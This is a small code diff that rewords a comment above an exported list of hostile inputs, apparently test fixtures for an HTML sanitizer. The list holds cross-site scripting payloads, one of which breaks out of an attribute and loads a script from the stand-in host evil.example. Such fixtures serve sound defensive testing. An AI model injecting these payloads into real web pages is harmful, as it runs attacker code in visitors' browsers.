@@ -1,4 +1,4 @@
-/** What people write who hope that somebody's browser runs it. Each would set `window.ran`, or ask another site. */
+/** Texts that attackers enter. If a browser ran one, it would set `window.ran` or contact another site. */
 export const hostile = [
   `<script>window.ran=1</script>`,
   `"><script src="https://evil.example/x.js"></script>`,
